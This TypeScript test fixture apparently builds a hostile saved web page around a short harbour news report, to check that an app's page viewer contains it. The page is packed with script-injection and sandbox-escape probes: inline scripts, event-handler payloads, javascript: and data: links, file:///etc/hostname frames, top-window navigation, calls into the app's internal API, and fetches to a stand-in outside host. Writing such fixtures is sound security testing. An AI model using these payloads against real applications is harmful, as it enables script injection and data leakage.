/** A name that exists nowhere; whoever looks it up has been made to. */
export const HOSTILE_NAME = 'looked-up.invalid';

/** What a script would do if it could: leave a mark, reach the window, and call home. */
function deeds(outside: string, from: string): string {
  return [
    `document.documentElement.dataset.ran='${from}'`,
    `try{parent.postMessage('${from}','*')}catch(e){}`,
    `try{top.document.title='${from}'}catch(e){}`,
    `try{top.dateline.call('change:undo',null)}catch(e){}`,
    `try{top.location='${outside}/top-${from}'}catch(e){}`,
    `try{localStorage.ran='${from}'}catch(e){}`,
    `try{navigator.serviceWorker.register('/worker.js')}catch(e){}`,
    `try{navigator.geolocation.getCurrentPosition(function(){})}catch(e){}`,
    `try{Notification.requestPermission()}catch(e){}`,
    `try{open('${outside}/open-${from}')}catch(e){}`,
    `try{fetch('${outside}/fetch-${from}')}catch(e){}`,
  ].join(';');
}

/**
 * A saved page that tries whatever a page can try, around an ordinary report.
 *
 * @param outside the address that everything in it leads to
 * @param more markup that goes before the end of its body
 */
export function hostilePage(outside: string, more = ''): string {
  const js = (from: string) => deeds(outside, from).replaceAll('"', '&quot;');
  return `<!doctype html>
<html onclick="${js('html-click')}"><head>
<meta charset="utf-8">
<title>Harbour report - Alder Courier</title>
<meta http-equiv="refresh" content="1;url=${outside}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri ${outside}/report">
<meta http-equiv="x-dns-prefetch-control" content="on">
<base href="${outside}/base/" target="_top">
<link rel="dns-prefetch" href="//${HOSTILE_NAME}">
<link rel="preconnect" href="${outside}">
<link rel="preload" as="image" href="${outside}/preload.png">
<link rel="modulepreload" href="${outside}/module.js">
<link rel="prefetch" href="${outside}/prefetch">
<link rel="prerender" href="${outside}/prerender">
<link rel="icon" href="${outside}/icon.png">
<link rel="manifest" href="${outside}/manifest.json">
<link rel="stylesheet" href="${outside}/style.css">
<style>
@import url(${outside}/import.css);
@font-face { font-family: Hostile; src: url(${outside}/font.woff2); }
body { font-family: Hostile, serif; background: #fff url(${outside}/background.png); cursor: url(${outside}/cursor.png), auto; }
p::after { content: url(${outside}/content.png); }
li { list-style: url(${outside}/list.png); }
.masked { mask: url(${outside}/mask.svg#a); width: 20px; height: 20px; background: red; }
.marked { color: rgb(1, 2, 3); }
</style>
<script>${deeds(outside, 'script')}</script>
<script src="${outside}/script.js"></script>
<script type="module">import '${outside}/module-inside.js'</script>
<script type="speculationrules">{"prerender":[{"source":"list","urls":["${outside}/speculation"]}]}</script>
</head>
<body onload="${js('body-load')}" onpageshow="${js('pageshow')}" background="${outside}/body.png">
<h1 class="marked">Harbour report</h1>
<p>The harbour board met on 14 July 2025 and closed the north pier until the autumn, its chair said after the session.</p>
<p>Divers had found that two of the piles were eaten through at the waterline, and that a third had moved.</p>
<p>The ferries will call at the south pier, and the market moves to the old customs hall for the time being.</p>
<ul><li>One matter was put off.</li></ul>
<p class="masked"></p>
<img src="${outside}/picture.png" alt="The north pier" onerror="${js('img-error')}">
<img src="${outside}/picture-2.png" srcset="${outside}/picture-3.png 2x" alt="The customs hall">
<img src="data:image/png;base64,iVBORw0KGgo=" onerror="${js('data-error')}">
<picture><source srcset="${outside}/source.png"><img src="${outside}/picture-4.png"></picture>
<svg width="40" height="40" onload="${js('svg-load')}"><script>${deeds(outside, 'svg-script')}</script>
<image href="${outside}/svg.png" width="9" height="9"/><use href="${outside}/use.svg#a"/>
<animate attributeName="x" onbegin="${js('svg-begin')}"/><rect width="9" height="9" fill="url(${outside}/fill.svg#a)"/></svg>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='9' height='9'%3E%3Cscript%3Etop.ran=1%3C/script%3E%3Cimage href='${outside}/nested.png'/%3E%3C/svg%3E">
<iframe src="${outside}/frame"></iframe>
<iframe src="data:text/html,<script>parent.postMessage('data-frame','*')</script>"></iframe>
<iframe srcdoc="<script>${js('srcdoc')}</script><img src='${outside}/srcdoc.png'>"></iframe>
<iframe src="app://dateline/index.html"></iframe>
<iframe src="file:///etc/hostname"></iframe>
<object data="${outside}/object.pdf" type="application/pdf"></object>
<object data="data:text/html,<script>parent.postMessage('object','*')</script>"></object>
<embed src="${outside}/embed.swf">
<video src="${outside}/video.mp4" poster="${outside}/poster.png" autoplay onerror="${js('video-error')}"><track src="${outside}/track.vtt" default></video>
<audio src="${outside}/audio.mp3" autoplay></audio>
<form action="${outside}/form" method="post"><input name="a" autofocus onfocus="${js('focus')}"><button id="send">Send</button>
<button id="send-script" formaction="javascript:${js('formaction')}">Send otherwise</button></form>
<input type="image" src="${outside}/input.png">
<details open ontoggle="${js('toggle')}"><summary>More</summary>…</details>
<marquee onstart="${js('marquee')}">moving</marquee>
<p><a id="plain" href="${outside}/plain">A plain link</a> <a id="relative" href="relative/link">A relative link</a>
<a id="blank" href="${outside}/blank" target="_blank">A link for a new window</a>
<a id="top" href="${outside}/top" target="_top">A link for the whole window</a>
<a id="script" href="javascript:${js('javascript-link')}">A link that is a script</a>
<a id="data" href="data:text/html,<script>parent.postMessage('data-link','*')</script>">A link that is a page</a>
<a id="download" href="data:text/plain,loaded" download="loaded.txt">A download</a>
<a id="ping" href="${outside}/pinged" ping="${outside}/ping">A link that tells</a>
<a id="file" href="file:///etc/hostname">A file</a>
<a id="app" href="app://dateline/index.html" target="_top">The program itself</a>
<a id="mail" href="mailto:nobody@${HOSTILE_NAME}">A mail</a></p>
${more}
</body></html>
`;
}
